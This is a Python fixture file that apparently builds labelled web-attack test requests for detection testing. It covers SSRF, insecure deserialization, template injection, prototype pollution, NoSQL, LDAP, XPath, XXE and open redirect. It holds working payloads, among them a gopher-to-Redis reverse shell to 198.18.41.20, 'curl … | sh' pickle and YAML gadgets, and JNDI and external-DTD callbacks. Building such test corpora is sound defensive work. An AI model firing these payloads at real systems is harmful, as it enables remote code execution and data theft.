A('ssrf', 'ipv6-mapped', '/avatar/fetch?url=http://[::ffff:a9fe:a9fe]/latest/meta-data/', 200, SR + ' (IPv4-mapped IPv6)')
A('ssrf', 'zero-host', '/check?url=http://0:8080/actuator/env', 200, SR + ' (0)')
A('ssrf', 'nip-io-metadata', '/fetch?url=http://169.254.169.254.nip.io/latest/meta-data/', 200, SR + ' (nip.io wildcard DNS)')
A('ssrf', 'localtest-me-couchdb', '/link/preview?url=http://localtest.me:5984/_all_dbs', 200, SR + ' (localtest.me)')
A('ssrf', 'host-docker-internal', '/api/v1/integrations/test?url=http://host.docker.internal:2375/containers/json', 200, HT + ' SSRF (host.docker.internal)')
A('ssrf', 'kubernetes-default-svc', '/fetch?url=https://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets', 200, HT + ' SSRF (Kubernetes API service name)')
A('ssrf', 'gopher-redis', '/fetch?url=' + q('gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A%2A3%0D%0A%243%0D%0Aset%0D%0A%241%0D%0A1%0D%0A%2464%0D%0A%0A%0A%2A/1%20%2A%20%2A%20%2A%20%2A%20bash%20-c%20%22sh%20-i%20%3E%26%20/dev/tcp/198.18.41.20/4444%200%3E%261%22%0A%0A%0A%0D%0A%2A4%0D%0A%246%0D%0Aconfig%0D%0A%243%0D%0Aset%0D%0A%243%0D%0Adir%0D%0A%2416%0D%0A/var/spool/cron/%0D%0A'), 200, 'Gopherus (Redis cron payload), double-encoded in a parameter')
A('ssrf', 'dict-memcached', '/fetch?url=dict://127.0.0.1:11211/stats', 200, SR + ' (dict://)')
A('ssrf', 'file-proc-environ', '/render?url=file:///proc/self/environ', 200, SR + ' (file://)')
A('ssrf', 'ldap-scheme', '/fetch?url=ldap://localhost:11211/%0astats%0aquit', 200, SR + ' (ldap:// with newline, Orange Tsai)')
A('ssrf', 'at-userinfo-confusion', '/fetch?url=http://shop.example@169.254.169.254/latest/meta-data/', 200, SR + ' (userinfo @ bypass)')
A('ssrf', 'hash-at-confusion', '/fetch?url=http://169.254.169.254%23@shop.example/latest/meta-data/', 200, 'Orange Tsai "A New Era of SSRF" (# before @, parser differential)')
A('ssrf', 'path-proxy-metadata', '/proxy/' + IM + '/latest/meta-data/', 404, SR + ' (URL in a proxy path)', place='path')
A('ssrf', 'path-image-encoded', '/image/' + q('http://127.0.0.1:8080/manager/html'), 404, SR + ' (encoded URL as path segment)', place='path')
A('ssrf', 'path-render-ipv6', '/render/http://[::]:80/server-status', 404, SR + ' ([::] in a path)', place='path')
A('ssrf', 'referer-aws', '/', 200, PS + ' lab "Blind SSRF with out-of-band detection" (Referer fetched by analytics)', place='referer', ref=IM + '/latest/meta-data/')
A('ssrf', 'referer-localhost-admin', '/products', 200, PS + ' Blind SSRF via Referer', place='referer', ref='http://127.0.0.1:8080/admin')
A('ssrf', 'referer-ipv6-mapped', '/blog/', 200, PS + ' Blind SSRF via Referer (IPv6-mapped)', place='referer', ref='http://[::ffff:7f00:1]:9200/_cat/indices')
A('ssrf', 'referer-gcp', '/', 200, PS + ' Blind SSRF via Referer (GCP metadata)', place='referer', ref='http://metadata.google.internal/computeMetadata/v1/')
A('ssrf', 'referer-gopher', '/about', 200, 'Blind SSRF via Referer (gopher)', place='referer', ref='gopher://127.0.0.1:6379/_INFO')

# ================================================================= insecure deserialization
YS = 'ysoserial'
YN = 'ysoserial.net'
PG = 'PHPGGC'
A('deserialization', 'java-cc1-base64', '/api/session/restore?state=' + q(b64(java_cc1('curl 198.18.41.30'))), 500, YS + ' CommonsCollections1 (base64 rO0AB)')
A('deserialization', 'java-urldns-raw-base64', '/remember?token=' + b64(java_urldns(CB[1])), 500, YS + ' URLDNS (base64 rO0AB, unencoded)')
A('deserialization', 'java-hex-priorityqueue', '/export/import?obj=' + java_priorityqueue_hex(), 500, YS + ' CommonsBeanutils1 (hex aced0005)')
A('deserialization', 'jsf-viewstate-gzip', '/faces/login.xhtml?javax.faces.ViewState=' + q(b64(gzip_stored(java_object_array()))), 500, YS + ' payload in JSF ViewState (gzip+base64 H4sI)')
A('deserialization', 'dotnet-binaryformatter', '/api/v1/state?blob=' + q(b64(dotnet_bf('ping 198.18.41.31'))), 500, YN + ' TextFormattingRunProperties (BinaryFormatter AAEAAAD/////)')
A('deserialization', 'dotnet-viewstate-wey', '/Account/Profile.aspx?__VIEWSTATE=' + q(b64(viewstate('nslookup ' + CB[2]))) + '&__VIEWSTATEGENERATOR=9A6C4E2B', 500, YN + ' -p ViewState (/wEy, ObjectStateFormatter)')
A('deserialization', 'php-stdclass-raw', '/profile?prefs=' + br('O:8:"stdClass":1:{s:4:"file";s:11:"/etc/passwd";}'), 200, PATT + ' Insecure Deserialization PHP (O:8:"stdClass")')
A('deserialization', 'phpggc-monolog-rce1', '/cart/restore?c=' + q('O:32:"Monolog\\Handler\\SyslogUdpHandler":1:{s:9:"\x00*\x00socket";O:29:"Monolog\\Handler\\BufferHandler":7:{s:10:"\x00*\x00handler";r:3;s:13:"\x00*\x00bufferSize";i:-1;s:9:"\x00*\x00buffer";a:1:{i:0;a:2:{i:0;s:2:"id";s:5:"level";N;}}s:8:"\x00*\x00level";N;s:14:"\x00*\x00initialized";b:1;s:14:"\x00*\x00bufferLimit";i:-1;s:13:"\x00*\x00processors";a:2:{i:0;s:7:"current";i:1;s:6:"system";}}}'), 500, PG + ' Monolog/RCE1 (raw, URL-encoded)')
A('deserialization', 'phpggc-laravel-base64', '/?data=' + q(b64('O:40:"Illuminate\\Broadcasting\\PendingBroadcast":2:{s:9:"\x00*\x00events";O:15:"Faker\\Generator":1:{s:13:"\x00*\x00formatters";a:1:{s:8:"dispatch";s:6:"system";}}s:8:"\x00*\x00event";s:2:"id";}')), 500, PG + ' Laravel/RCE1 (base64 Tzo)')
A('deserialization', 'php-phar-wrapper', '/image/resize?src=phar://./uploads/2026/01/avatar.jpg/x.txt&w=200', 500, PG + ' -p phar (phar:// trigger on a file parameter)')
A('deserialization', 'python-pickle-p2', '/api/v1/cache?blob=' + q(b64(pickle_p2('posix', 'system', 'id'))), 500, 'Python pickle protocol 2 (__reduce__ os.system), base64 gAJ')
A('deserialization', 'python-pickle-p4', '/api/v2/jobs/resume?state=' + q(b64(pickle_p4('posix', 'system', 'curl 198.18.41.32|sh'))), 500, 'Python pickle protocol 4 (__reduce__), base64 gASV')
A('deserialization', 'ruby-marshal-universal', '/session?data=' + q(b64(ruby_universal('id'))), 500, 'Ruby Marshal universal gadget (elttam / vakzz), base64 BAh')
A('deserialization', 'pyyaml-subprocess', '/config/apply?yaml=' + q('!!python/object/apply:subprocess.check_output [["id"]]'), 500, PATT + ' Python YAML (!!python/object/apply)')
A('deserialization', 'node-serialize-iife', '/api/profile?data=' + q(b64('{"rce":"_$$ND_FUNC$$_function(){require(\'child_process\').exec(\'id\',function(e,o){})}()"}')), 500, 'node-serialize IIFE (Opsecx write-up), base64 in parameter')
A('deserialization', 'fastjson-jdbcrowset', '/api/v1/parse?json=' + q('{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://198.18.41.34:1389/Exploit","autoCommit":true}'), 500, 'Fastjson autoType JdbcRowSetImpl')
A('deserialization', 'java-urlsafe-base64-path', '/api/state/' + b64url(java_urldns(CB[3])) + '/restore', 500, YS + ' URLDNS (URL-safe base64 in a path segment)', place='path')
A('deserialization', 'php-base64-path', '/session/' + b64('O:8:"stdClass":2:{s:4:"role";s:5:"admin";s:2:"id";i:1;}').rstrip('=') + '/resume', 404, PATT + ' PHP Object Injection (base64 Tzo in a path segment)', place='path')
A('deserialization', 'ua-java-rO0', '/', 200, YS + ' URLDNS in User-Agent', place='ua', ua=b64(java_urldns(CB[0])))
A('deserialization', 'ua-pyyaml', '/login', 200, 'PyYAML gadget in User-Agent', place='ua', ua='!!python/object/apply:os.system ["curl 198.18.41.36|sh"]')
A('deserialization', 'ua-dotnet-bf', '/Default.aspx', 200, YN + ' BinaryFormatter blob in User-Agent', place='ua', ua=b64(dotnet_bf('calc')))
A('deserialization', 'ua-ruby-marshal', '/', 200, 'Ruby Marshal gadget in User-Agent', place='ua', ua=b64(ruby_universal('curl 198.18.41.37')))
A('deserialization', 'referer-php-base64', '/cart', 200, PATT + ' PHP Object Injection (base64 in a Referer query)', place='referer', ref='https://shop.example/cart?c=' + b64('O:8:"stdClass":1:{s:4:"test";s:4:"test";}'))
A('deserialization', 'referer-java-rO0', '/', 200, YS + ' payload in Referer', place='referer', ref='http://198.18.41.38/?x=' + b64(java_cc1('id')))
A('deserialization', 'referer-pickle', '/api/', 200, 'Python pickle in Referer', place='referer', ref='https://app.example/?state=' + b64(pickle_p4('posix', 'system', 'id')))

# ================================================================= server-side template injection
ST = PATT + ' Server Side Template Injection'
SI = 'SSTImap / tplmap'
JH = ('{{#with "s" as |string|}}{{#with "e"}}{{#with split as |conslist|}}{{this.pop}}'
      '{{this.push (lookup string.sub "constructor")}}{{this.pop}}{{#with string.split as |codelist|}}{{this.pop}}'
      '{{this.push "return require(\'child_process\').execSync(\'id\');"}}{{this.pop}}{{#each conslist}}'
      '{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}')
A('ssti', 'jinja2-cycler-popen', '/hello?name=' + q("{{cycler.__init__.__globals__.os.popen('id').read()}}"), 200, ST + ' Jinja2 (cycler globals)')
A('ssti', 'jinja2-lipsum-popen', '/greet?user=' + br('{{lipsum.__globals__["os"].popen("cat /etc/passwd").read()}}'), 200, ST + ' Jinja2 (lipsum globals)')
A('ssti', 'jinja2-attr-hex-bypass', '/page?title=' + q("{{request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fbuiltins\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fimport\\x5f\\x5f')('os')|attr('popen')('id')|attr('read')()}}"), 200, ST + ' Jinja2 (|attr with \\x5f filter bypass)')
A('ssti', 'jinja2-subclasses-loop', '/preview?tpl=' + form("{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__=='catch_warnings' %}{{ c.__init__.__globals__['__builtins__'].eval(\"__import__('os').popen('id').read()\") }}{% endif %}{% endfor %}"), 200, ST + ' Jinja2 (catch_warnings loop)')
A('ssti', 'twig-filter-system', '/newsletter?name=' + q("{{['id']|filter('system')}}"), 200, ST + ' Twig (filter system)')
A('ssti', 'twig-undefined-filter-callback', '/profile?bio=' + q('{{_self.env.registerUndefinedFilterCallback("exec")}}{{_self.env.getFilter("id")}}'), 200, ST + ' Twig 1.x (registerUndefinedFilterCallback)')
A('ssti', 'freemarker-execute', '/report?title=' + q('<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}'), 200, ST + ' FreeMarker (Execute?new)')
A('ssti', 'velocity-runtime', '/template/render?body=' + q("#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))#set($chr=$x.class.forName('java.lang.Character'))#set($str=$x.class.forName('java.lang.String'))#set($ex=$rt.getRuntime().exec('id'))$ex.waitFor()"), 200, ST + ' Velocity (class.forName Runtime)')
A('ssti', 'erb-backticks', '/hello?name=' + q('<%= `id` %>'), 200, ST + ' ERB (backticks)')
A('ssti', 'thymeleaf-preprocess-query', '/doc?lang=' + q('__${T(java.lang.Runtime).getRuntime().exec("id")}__::.x'), 500, 'Veracode/Acunetix Spring view manipulation (Thymeleaf __${...}__ preprocessing)')
A('ssti', 'thymeleaf-inline', '/welcome?name=' + q("[[${T(java.lang.Runtime).getRuntime().exec('id')}]]"), 200, ST + ' Thymeleaf (inlined expression)')
A('ssti', 'smarty-system', '/index.php?tpl=' + br("{system('id')}"), 200, ST + ' Smarty ({system})')
A('ssti', 'handlebars-constructor', '/api/v1/render?template=' + q(JH), 200, ST + ' Handlebars (Mahmoud Gamal, constructor via lookup)')
A('ssti', 'pug-mainmodule', '/hello?name=' + q("#{function(){localLoad=global.process.mainModule.constructor._load;sh=localLoad(\"child_process\").exec('id')}()}"), 200, ST + ' Pug/Jade (process.mainModule)')
A('ssti', 'nunjucks-range-constructor', '/search?q=' + q('{{range.constructor("return global.process.mainModule.require(\'child_process\').execSync(\'id\')")()}}'), 200, ST + ' Nunjucks (range.constructor)')
A('ssti', 'polyglot-probe', '/search?q=' + q('${{<%[%\'"}}%\\.'), 500, SI + ' error-based polyglot probe')
A('ssti', 'flask-route-path', '/hello/' + brp('{{7*7}}'), 200, ST + ' (Flask route parameter in path)', place='path')
A('ssti', 'thymeleaf-view-path', '/doc/__$%7BT(java.lang.Runtime).getRuntime().exec(%22id%22)%7D__::.x', 500, 'Spring view manipulation (Veracode research), path variable used as view name', place='path')
A('ssti', 'jinja2-globals-path', '/user/' + q("{{config.__class__.__init__.__globals__['os'].popen('id').read()}}"), 200, ST + ' Jinja2 (config globals) in a path segment', place='path')
A('ssti', 'erb-path', '/profile/' + q('<%= 7*7 %>'), 200, ST + ' ERB probe in a path segment', place='path')
A('ssti', 'ua-polyglot', '/', 200, SI + ' style multi-engine probe in User-Agent', place='ua', ua='{{7*7}}${7*7}<%= 7*7 %>${{7*7}}#{7*7}')
A('ssti', 'ua-jinja2-rce', '/', 200, ST + ' Jinja2 in User-Agent', place='ua', ua="Mozilla/5.0 {{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}")
A('ssti', 'ua-freemarker', '/contact', 200, ST + ' FreeMarker in User-Agent', place='ua', ua='<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}')
A('ssti', 'referer-jinja2-mro', '/', 200, ST + ' Jinja2 (__mro__ subclasses) in Referer', place='referer', ref="https://shop.example/?q={{''.__class__.__mro__[1].__subclasses__()}}")
A('ssti', 'referer-twig-filter', '/newsletter', 200, ST + ' Twig in Referer', place='referer', ref="https://shop.example/newsletter?name={{['id']|filter('system')}}")
A('ssti', 'referer-spel', '/login', 200, 'Spring EL injection in Referer', place='referer', ref="https://shop.example/${T(java.lang.Runtime).getRuntime().exec('id')}")

# ================================================================= prototype pollution
PP = PATT + ' Prototype Pollution'
PM = 'ppmap (kleiton0x00) probe'
BC = 'BlackFan client-side-prototype-pollution gadget'
A('prototype-pollution', 'ppmap-constructor-encoded', '/?constructor%5Bprototype%5D%5Bppmap%5D=reserved', 200, PM, tool='ppmap')
A('prototype-pollution', 'ppmap-proto-dot', '/products?sort=new&__proto__.ppmap=reserved', 200, PM)
A('prototype-pollution', 'ppmap-constructor-dot', '/blog/?constructor.prototype.ppmap=reserved', 200, PM)
A('prototype-pollution', 'ppmap-proto-encoded-bracket', '/search?q=shirt&__proto__%5Bppmap%5D=reserved', 200, PM)
A('prototype-pollution', 'jquery-url-datatype', '/?__proto__[url][]=data:,alert(1)//&__proto__[dataType]=script', 200, BC + ' (jQuery $.get)')
A('prototype-pollution', 'jquery-delegate-target', '/?__proto__[preventDefault]=x&__proto__[handleObj]=x&__proto__[delegateTarget]=%3Cimg/src/onerror%3dalert(1)%3E', 200, BC + ' (jQuery event handler)')
A('prototype-pollution', 'recaptcha-srcdoc', '/contact?__proto__[srcdoc][]=%3Cscript%3Ealert(1)%3C/script%3E', 200, BC + ' (Google reCAPTCHA srcdoc)')
A('prototype-pollution', 'lodash-sourceurl', '/?__proto__[sourceURL]=%E2%80%A8%E2%80%A9alert(1)', 200, BC + ' (lodash _.template sourceURL)')
A('prototype-pollution', 'boomerang-url', '/?__proto__[BOOMR]=1&__proto__[url]=//attacker.example/js.js', 200, BC + ' (Akamai Boomerang)')
A('prototype-pollution', 'vue-template', '/dashboard?__proto__[template]=%3Cscript%3Ealert(1)%3C/script%3E', 200, BC + ' (Vue.js template)')
A('prototype-pollution', 'portswigger-sequence', '/?__proto__.sequence=alert(1)-', 200, PS + ' lab "DOM XSS via an alternative prototype pollution vector"')
A('prototype-pollution', 'portswigger-value-descriptor', '/?__proto__[value]=data:,alert(1);', 200, PS + ' lab "Client-side prototype pollution via browser APIs"')
A('prototype-pollution', 'server-json-spaces', '/api/v1/me?__proto__[json%20spaces]=10', 200, 'Gareth Heyes, "Server-side prototype pollution: black-box detection" (json spaces)')
A('prototype-pollution', 'server-execargv', '/api/v1/jobs?constructor[prototype][execArgv][]=--eval%3Drequire(%27child_process%27).execSync(%27curl%20198.18.41.40%27)', 200, PS + ' lab "Remote code execution via server-side prototype pollution" (execArgv)')
A('prototype-pollution', 'json-in-query-proto', '/api/v2/users?filter=' + q('{"__proto__":{"isAdmin":true}}'), 200, PP + ' (JSON body parsed from a query value)')
A('prototype-pollution', 'json-in-query-constructor', '/api/v2/settings?patch=' + q('{"constructor":{"prototype":{"role":"admin"}}}'), 200, PP + ' (constructor.prototype in JSON)')
A('prototype-pollution', 'nested-user-proto', '/api/v1/profile/update?user[__proto__][role]=admin', 200, PP + ' (qs nested object)')
A('prototype-pollution', 'path-proto-setter', '/api/config/__proto__/isAdmin?value=true', 404, PP + ' (object path in URL segments)', place='path')
A('prototype-pollution', 'path-constructor-setter', '/set/constructor/prototype/polluted/yes', 404, PP + ' (object path in URL segments)', place='path')
A('prototype-pollution', 'referer-proto-src', '/', 200, BC + ' (Adobe DTM src) in Referer', place='referer', ref='https://shop.example/?__proto__[src]=data:,alert(1)//')

# ================================================================= NoSQL injection
NQ = PATT + ' NoSQL Injection'
NM = 'NoSQLMap'
A('nosqli', 'ne-auth-bypass', '/login?username[$ne]=admin&password[$ne]=x', 200, NQ + ' (auth bypass $ne)')
A('nosqli', 'ne-encoded-brackets', '/api/v2/users?username%5B%24ne%5D=null&password%5B%24ne%5D=null', 200, NQ + ' ($ne, encoded)')
A('nosqli', 'regex-token', '/password/reset?token[$regex]=^a', 200, NQ + ' ($regex extraction)')
A('nosqli', 'regex-length', '/api/v1/login?user=admin&pass[$regex]=.{24}', 200, NQ + ' ($regex length probe)')
A('nosqli', 'exists', '/api/v1/accounts?email[$exists]=true&role[$exists]=true', 200, NQ + ' ($exists)')
A('nosqli', 'in-list', '/login?user[$in][]=admin&user[$in][]=root&pass[$ne]=1', 200, NQ + ' ($in)')
A('nosqli', 'nin-list', '/api/users?role[$nin][]=user&role[$nin][]=guest', 200, NQ + ' ($nin)')
A('nosqli', 'where-string-breakout', "/products?category=x';return%20true;var%20a='a", 200, NM + " ('; return true; var a=')")
A('nosqli', 'where-sleep', '/api/items?id[$where]=function()%7Bsleep(5000);return%20true%7D', 200, NQ + ' ($where sleep)')
A('nosqli', 'js-or-tautology', "/search?name=admin'%20%7C%7C%20'a'=='a", 200, NQ + " (' || 'a'=='a)")
A('nosqli', 'where-regex-extract', "/api/v1/users?$where=this.password.match(/%5Ea.*$/)", 200, NQ + ' ($where regex extraction)')
A('nosqli', 'json-filter-ne', '/api/v2/users?filter=' + q('{"username":{"$ne":null},"password":{"$ne":null}}'), 200, NQ + ' (JSON operator object in query)')
A('nosqli', 'expr-function-sleep', '/api/v2/items?filter=' + q('{"$expr":{"$function":{"body":"function(){sleep(5000);return true}","args":[],"lang":"js"}}}'), 200, 'MongoDB $function (4.4+) in $expr, HackTricks NoSQL')
A('nosqli', 'lookup-aggregation', '/api/v2/reports?pipeline=' + q('[{"$lookup":{"from":"users","localField":"owner","foreignField":"_id","as":"u"}},{"$project":{"u.password":1}}]'), 200, HT + ' NoSQL ($lookup aggregation injection)')
A('nosqli', 'where-tautology-comma', "/api/users?id=1,%20$where:%20'1%20==%201'", 200, NQ + " (, $where: '1 == 1')")
A('nosqli', 'gt-empty-encoded', '/api/v1/session?login%5B%24gt%5D=&pass%5B%24gt%5D=', 200, NQ + ' ($gt empty, encoded)')
A('nosqli', 'path-json-ne', '/api/v2/users/' + q('{"$ne":null}'), 200, NQ + ' (JSON operator in a path parameter)', place='path')
A('nosqli', 'path-js-tautology', '/api/v2/users/' + q("admin' || '1'=='1"), 200, NQ + ' (JS tautology in a path parameter)', place='path')
A('nosqli', 'referer-ne', '/login', 200, NQ + ' ($ne) in Referer', place='referer', ref='https://app.example/login?user[$ne]=x&pass[$ne]=x')
A('nosqli', 'referer-where', '/', 200, NQ + ' ($where) in Referer', place='referer', ref='https://app.example/api/v2/users?filter=%7B%22%24where%22%3A%22sleep(5000)%22%7D')

# ================================================================= LDAP injection
LD = PATT + ' LDAP Injection'
A('ldap', 'uid-or-wildcard', '/login?user=*)(uid=*))(|(uid=*&pass=x', 200, LD)
A('ldap', 'userpassword-or', '/directory/search?name=admin*)((|userPassword=*)', 200, LD + ' (userPassword)')
A('ldap', 'null-terminated', '/people?q=*)(objectClass=*))%00', 200, LD + ' (NUL terminator)')
A('ldap', 'mail-or', '/api/users?cn=*)(|(mail=*))', 200, LD + ' (OR mail)')
A('ldap', 'not-and-false', '/login?username=admin)(!(%26(1=0&password=x', 200, LD + ' ((!(&(1=0)')
A('ldap', 'description-blind', '/search?sn=*)(|(description=*pass*)', 200, LD + ' (blind attribute discovery)')
A('ldap', 'fully-encoded', '/directory?uid=%2A%29%28%7C%28objectClass%3D%2A%29%29', 200, LD + ' (fully encoded)')
A('ldap', 'and-true-both', '/auth?user=*)(%26&pass=*)(%26', 200, LD + ' (*)(& both fields)')
A('ldap', 'group-member-or', '/groups?member=cn=guest,dc=corp,dc=example)(|(objectClass=*', 200, LD + ' (DN breakout)')
A('ldap', 'path-segment', '/directory/users/*)(uid=*))(|(uid=*', 200, LD + ' in a path segment', place='path')
A('ldap', 'ua-filter', '/', 200, LD + ' in User-Agent', place='ua', ua='*)(uid=*))(|(uid=*')
A('ldap', 'referer-filter', '/people', 200, LD + ' in Referer', place='referer', ref='https://intranet.example/people?q=*)(objectClass=*)')

# ================================================================= XPath injection
XP = PATT + ' XPath Injection'
A('xpath', 'or-numeric-tautology', "/login?name=x'%20or%201=1%20or%20'x'='y&pw=x", 200, XP)
A('xpath', 'union-all-nodes', "/catalog?id=1']%20|%20//*%20|%20//*['", 200, XP + ' (| //* node-set union)')
A('xpath', 'paren-or', "/books?author=')%20or%20('1'='1", 200, XP + ' (parenthesis balancing)')
A('xpath', 'name-function', "/api/xml/items?q=x'%20or%20name()='username'%20or%20'x'='y", 200, 'OWASP WSTG-INPV-09 XPath injection (name())')
A('xpath', 'count-child-nodes', "/users?q=x'%20and%20count(//user/child::node())%3E0%20and%20'1'='1", 200, XP + ' (count(//user/child::node()))')
A('xpath', 'substring-extract', "/account?user=admin'%20and%20substring(//user[1]/password,1,1)='a", 200, XP + ' (blind substring)')
A('xpath', 'xpath2-doc-oob', "/lookup?code=x'%20and%20doc(concat('http://',name(/*),'.kq2z.oast.example/'))%20and%20'1'='1", 200, XP + ' (XPath 2.0 doc() out-of-band)')
A('xpath', 'boolean-exists', "/api/xml/search?term='%20or%20boolean(//user)%20or%20'", 200, XP + ' (boolean())')
A('xpath', 'numeric-or', '/product/xml?pid=1%20or%201=1', 200, XP + ' (numeric context)')
A('xpath', 'path-segment', "/xml/user/'%20or%20'1'='1", 200, XP + ' in a path segment', place='path')
A('xpath', 'ua-tautology', '/', 200, XP + ' in User-Agent', place='ua', ua="' or '1'='1' or 'a'='a")
A('xpath', 'referer-union', '/catalog', 200, XP + ' in Referer', place='referer', ref="https://shop.example/catalog?id=1'] | //password | //*['")

# ================================================================= XXE / XInclude in query values
XE = PATT + ' XXE Injection'
A('xxe', 'classic-file-shadow', '/api/parse?xml=' + form("<?xml version=\"1.0\"?><!DOCTYPE root [<!ENTITY test SYSTEM 'file:///etc/shadow'>]><root>&test;</root>"), 400, XE + ' (classic SYSTEM file)')
A('xxe', 'expect-wrapper', '/import?doc=' + q('<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "expect://id">]><r>&x;</r>'), 500, XE + ' (PHP expect://)')
A('xxe', 'oob-external-dtd', '/rss/validate?feed=' + q('<?xml version="1.0"?><!DOCTYPE x [<!ENTITY % dtd SYSTEM "http://198.18.41.50/evil.dtd"> %dtd; %send;]><x/>'), 200, XE + ' (OOB external DTD, parameter entities)')
A('xxe', 'error-local-dtd', '/api/v1/xml?body=' + q('<!DOCTYPE message [<!ENTITY % local_dtd SYSTEM "file:///usr/share/yelp/dtd/docbookx.dtd"><!ENTITY % ISOamso \'<!ENTITY &#x25; file SYSTEM "file:///etc/passwd"><!ENTITY &#x25; eval "<!ENTITY &#x26;#x25; error SYSTEM &#x27;file:///nonexistent/&#x25;file;&#x27;>">&#x25;eval;&#x25;error;\'>%local_dtd;]><message/>'), 500, 'GoSecure "Exploiting XXE with local DTD files" (docbookx.dtd ISOamso)')
A('xxe', 'xinclude-stock-check', '/product/stock?productId=' + q('<foo xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></foo>') + '&storeId=1', 400, PS + ' lab "Exploiting XInclude to retrieve files"')
A('xxe', 'xinclude-http', '/api/v1/render?fragment=' + q('<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="http://198.18.41.51/x.xml"/>'), 200, XE + ' (XInclude, remote href)')
A('xxe', 'billion-laughs', '/api/parse?xml=' + q('<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;"><!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">]><lolz>&lol4;</lolz>'), 500, XE + ' (billion laughs)')
A('xxe', 'soap-cdata-dtd', '/ws/service?request=' + q('<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><foo><![CDATA[<!DOCTYPE doc [<!ENTITY % dtd SYSTEM "http://198.18.41.52:8080/d.dtd"> %dtd;]><xxx/>]]></foo></soap:Body></soap:Envelope>'), 500, XE + ' (SOAP CDATA)')
A('xxe', 'saml-response-base64', '/sso/saml/acs?SAMLResponse=' + q(b64('<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % x SYSTEM "http://198.18.41.53/saml.dtd"> %x;]><samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_1" Version="2.0"/>')) + '&RelayState=%2F', 500, 'SAML Raider / HackTricks SAML attacks (XXE in base64 SAMLResponse)')
A('xxe', 'utf7-encoded', '/import?xml=' + q('<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE foo+AFs +ADwAIQ-ELEMENT foo ANY +AD4 +ADwAIQ-ENTITY xxe SYSTEM +ACI-file:///etc/passwd+ACI +AD4AXQA+ +ADw-foo+AD4AJg-xxe+ADsAPA-/foo+AD4'), 400, XE + ' (UTF-7 encoded)')
A('xxe', 'jar-scheme', '/api/v1/xml?body=' + q('<!DOCTYPE r [<!ENTITY x SYSTEM "jar:http://198.18.41.54/a.zip!/file.txt">]><r>&x;</r>'), 500, XE + ' (Java jar: scheme)')
A('xxe', 'netdoc-scheme', '/xml/parse?data=' + q('<?xml version="1.0"?><!DOCTYPE d [<!ENTITY f SYSTEM "netdoc:///etc/passwd">]><d>&f;</d>'), 500, XE + ' (Java netdoc:)')
A('xxe', 'public-doctype-remote', '/feed/import?opml=' + q('<?xml version="1.0"?><!DOCTYPE opml PUBLIC "-//OOB//XXE//EN" "http://198.18.41.55/opml.dtd"><opml version="2.0"/>'), 200, XE + ' (PUBLIC identifier with remote DTD)')
A('xxe', 'xslt-document', '/api/v1/transform?xsl=' + q('<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><xsl:copy-of select="document(\'/etc/passwd\')"/></xsl:template></xsl:stylesheet>'), 500, PATT + ' XSLT Injection (document())')
A('xxe', 'raw-curl-param-entity', '/api/xml?data=<!DOCTYPE%20d%20[<!ENTITY%20%25%20r%20SYSTEM%20"http://198.18.41.56/r.dtd">%25r;]><d/>', 400, XE + ' (parameter entity, angle brackets unencoded)', tool='curl')
A('xxe', 'svg-xinclude', '/convert/svg?markup=' + q('<svg xmlns="http://www.w3.org/2000/svg" xmlns:xi="http://www.w3.org/2001/XInclude"><text><xi:include parse="text" href="file:///etc/hostname"/></text></svg>'), 200, XE + ' (SVG with XInclude)')
A('xxe', 'path-segment', '/xml/' + q('<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'), 404, XE + ' in a path segment', place='path')
A('xxe', 'referer-xinclude', '/product/stock', 200, PS + ' XInclude payload in Referer', place='referer', ref='https://shop.example/product/stock?productId=' + q('<foo xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></foo>'))
A('xxe', 'ua-doctype', '/', 200, XE + ' in User-Agent', place='ua', ua='<?xml version="1.0"?><!DOCTYPE ua [<!ENTITY % r SYSTEM "http://198.18.41.58/ua.dtd"> %r;]><ua/>')

# ================================================================= open redirect
OR = PATT + ' Open Redirect'
OZ = 'Oralyzer payload list'
A('open-redirect', 'protocol-relative', '/login?next=//evil.example', 302, OR + ' (//host)')
A('open-redirect', 'slash-backslash-raw', '/logout?redirect=/\\evil.example', 302, OR + ' (/\\host)')
A('open-redirect', 'scheme-no-slashes', '/out?url=https:evil.example', 302, OR + ' (https:host)')
A('open-redirect', 'encoded-double-slash', '/redirect?to=%2F%2Fevil.example', 302, OR + ' (%2F%2F)')
A('open-redirect', 'at-prefix', '/r?u=@evil.example', 302, OR + ' (@host appended to site origin)')
A('open-redirect', 'slash-backslash-slash', '/account/logout?returnTo=/\\/evil.example/', 302, OZ + ' (/\\/host)')
A('open-redirect', 'escaped-slashes', '/auth/callback?return=%5C/%5C/evil.example/', 302, OZ + ' (\\/\\/host)')
